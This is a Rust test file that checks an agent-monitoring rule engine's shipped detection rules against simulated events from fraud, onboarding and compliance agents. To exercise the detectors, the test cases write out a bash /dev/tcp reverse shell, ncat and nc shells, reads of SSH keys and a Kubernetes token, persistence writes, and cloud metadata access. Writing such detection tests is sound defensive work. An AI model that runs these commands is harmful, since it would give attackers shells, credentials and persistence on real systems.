//! The shipped rules in `rules/` load and fire on the behaviour they describe.

use super::*;
use crate::detect::Tier;

fn shipped() -> RuleEngine {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../rules");
    match RuleSet::load_dir(dir) {
        Ok(set) => RuleEngine::new(set),
        Err(e) => panic!("shipped rules must load: {e}"),
    }
}

#[test]
fn shipped_rules_load() {
    let e = shipped();
    assert!(e.rules().len() >= 10, "{} rules", e.rules().len());
    let files: std::collections::BTreeSet<_> =
        e.rules().rules().map(|r| r.file.to_owned()).collect();
    for f in [
        "common.yaml",
        "fraud.yaml",
        "onboarding.yaml",
        "compliance.yaml",
    ] {
        assert!(files.contains(f), "{f} missing from {files:?}");
    }
}

/// Rule names and tiers that fire for one event of `class`.
fn check(e: &mut RuleEngine, class: &str, body: Body) -> Vec<(String, Tier)> {
    run(e, &event(Some(("agent-1", class)), 0, body))
        .into_iter()
        .filter_map(|f| match f.source {
            Source::Rule { name, .. } => Some((name, f.tier?)),
            _ => None,
        })
        .collect()
}

fn rename(old: &str, new: &str) -> Body {
    Body::Rename {
        old_path: old.into(),
        new_path: new.into(),
        ret: 0,
    }
}

fn chmod(path: &str, mode: u32) -> Body {
    Body::Chmod {
        path: path.into(),
        dirfd: -100,
        mode,
        ret: 0,
    }
}

#[test]
fn the_demo_workload_is_quiet() {
    // What `agent-monitor demo` does for both classes.
    let mut e = shipped();
    for class in ["fraud", "onboarding"] {
        let steps = [
            open("/tmp/.tmpAbC/transactions.csv", 0),
            connect("127.0.0.1", 41721),
            open("/tmp/.tmpAbC/demo-report.txt", 0o1101),
            chmod("/tmp/.tmpAbC/demo-report.txt", 0o640),
            dns("scoring.bank.internal"),
            exec("/usr/bin/env", &["/usr/bin/env", "true"]),
            Body::Exit { code: Some(0) },
        ];
        for body in steps {
            let label = format!("{class}: {body:?}");
            assert_eq!(check(&mut e, class, body), [], "{label}");
        }
    }
}

#[test]
fn attacks_fire_with_sensible_tiers() {
    let mut e = shipped();
    let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let cases: Vec<(&str, Body, &str, Tier)> = vec![
        ("fraud", open(token, 0), "credential-read", Tier::Contain),
        (
            "compliance",
            open("/home/app/.ssh/id_ed25519", 0),
            "credential-read",
            Tier::Contain,
        ),
        (
            "fraud",
            exec(
                "/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.1.1.1/4444 0>&1"],
            ),
            "reverse-shell",
            Tier::Contain,
        ),
        (
            "onboarding",
            exec("/usr/bin/ncat", &["ncat", "-e", "/bin/sh", "x", "1"]),
            "reverse-shell",
            Tier::Contain,
        ),
        (
            "fraud",
            exec("/usr/bin/python3.11", &["python3", "x.py"]),
            "interpreter-spawned",
            Tier::Log,
        ),
        (
            "fraud",
            exec("/dev/shm/x", &["x"]),
            "exec-from-scratch-dir",
            Tier::Contain,
        ),
        (
            "fraud",
            chmod("/tmp/payload", 0o755),
            "chmod-exec-in-scratch-dir",
            Tier::RateLimit,
        ),
        (
            "fraud",
            open("/root/.bashrc", 0o2001),
            "persistence-write",
            Tier::Contain,
        ),
        (
            "fraud",
            rename("/tmp/k", "/root/.ssh/authorized_keys"),
            "persistence-rename",
            Tier::Contain,
        ),
        (
            "fraud",
            open("/pii/customers.csv", 0),
            "pii-access-without-permission",
            Tier::Contain,
        ),
        (
            "fraud",
            open("/srv/customers/c1.json", 0),
            "pii-access-without-permission",
            Tier::Contain,
        ),
        (
            "onboarding",
            open("/sensitive/sar.pdf", 0),
            "sensitive-access-without-permission",
            Tier::Contain,
        ),
        (
            "fraud",
            connect("169.254.169.254", 80),
            "cloud-metadata-access",
            Tier::Contain,
        ),
        (
            "fraud",
            dns("abc.ngrok-free.app"),
            "dns-tunnel-service",
            Tier::RateLimit,
        ),
        (
            "fraud",
            open("/srv/models/x.bin", 0),
            "fraud-data-outside-transactions",
            Tier::Log,
        ),
        (
            "fraud",
            open("/srv/transactions/t.csv", 2),
            "fraud-writes-transactions",
            Tier::Contain,
        ),
        (
            "fraud",
            rename("/srv/transactions/t.csv", "/tmp/t"),
            "fraud-deletes-transactions",
            Tier::Contain,
        ),
        (
            "fraud",
            connect("203.0.113.9", 443),
            "fraud-egress-outside-scoring",
            Tier::RateLimit,
        ),
        ("fraud", dns("example.com"), "fraud-dns-external", Tier::Log),
        (
            "onboarding",
            open("/srv/transactions/t.csv", 0),
            "onboarding-reads-transactions",
            Tier::RateLimit,
        ),
        (
            "onboarding",
            Body::Unlink {
                path: "/srv/customers/c1.json".into(),
                dirfd: -100,
                flags: 0,
                ret: 0,
            },
            "onboarding-deletes-customer-records",
            Tier::Contain,
        ),
        (
            "compliance",
            open("/srv/customers/c1.json", 1),
            "compliance-writes-audited-data",
            Tier::Contain,
        ),
        (
            "compliance",
            chmod("/srv/transactions/t.csv", 0o666),
            "compliance-deletes-audited-data",
            Tier::Contain,
        ),
        (
            "compliance",
            connect("203.0.113.9", 443),
            "compliance-egress-external",
            Tier::RateLimit,
        ),
    ];
    for (class, body, rule, tier) in cases {
        let label = format!("{class}: {body:?}");
        let got = check(&mut e, class, body);
        assert!(got.contains(&(rule.to_owned(), tier)), "{label}: {got:?}");
    }
}

#[test]
fn permitted_pii_access_is_quiet() {
    let mut e = shipped();
    assert_eq!(
        check(&mut e, "onboarding", open("/srv/customers/c1.json", 2)),
        []
    );
    assert_eq!(
        check(&mut e, "compliance", open("/srv/customers/c1.json", 0)),
        []
    );
    assert_eq!(
        check(&mut e, "compliance", open("/sensitive/sar.pdf", 0)),
        []
    );
    assert_eq!(
        check(&mut e, "fraud", open("/srv/transactions/t.csv", 0)),
        []
    );
}

#[test]
fn port_scan_fires_once_past_twenty_ports() {
    let mut e = shipped();
    let mut fired_at = Vec::new();
    for port in 1..=30u16 {
        let ev = event(
            Some(("f", "fraud")),
            u64::from(port) * SEC / 10,
            connect("10.96.0.10", port),
        );
        if fired(&mut e, &ev).iter().any(|n| n == "port-scan") {
            fired_at.push(port);
        }
    }
    assert_eq!(fired_at, [21]);
}

#[test]
fn doc_examples_load() {
    let doc = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/RULES.md"));
    let blocks: Vec<&str> = doc
        .split("```yaml\n")
        .skip(1)
        .filter_map(|b| b.split("```").next())
        .collect();
    assert!(blocks.len() >= 2, "examples missing");
    // A whole file, then a list of rules.
    let mut whole = RuleEngine::new(match RuleSet::parse("doc.yaml", blocks[0]) {
        Ok(s) => s,
        Err(e) => panic!("{e}"),
    });
    assert_eq!(
        fired(&mut whole, &fraud(open("/pii/a", 0))),
        ["pii-access-without-permission"]
    );
    let indented: String = blocks[1].lines().map(|l| format!("  {l}\n")).collect();
    let mut e = engine(&format!("rules:\n{indented}"));
    assert_eq!(
        fired(&mut e, &fraud(open("/sensitive/a", 0))),
        ["restricted-read"]
    );
    assert_eq!(
        fired(&mut e, &fraud(exec("/bin/nc", &["nc", "-e", "sh"]))),
        ["reverse-shell"]
    );
    let chmod = Body::Chmod {
        path: "/tmp/a/b".into(),
        dirfd: -100,
        mode: 0o700,
        ret: 0,
    };
    assert_eq!(fired(&mut e, &fraud(chmod)), ["chmod-x-tmp"]);
}
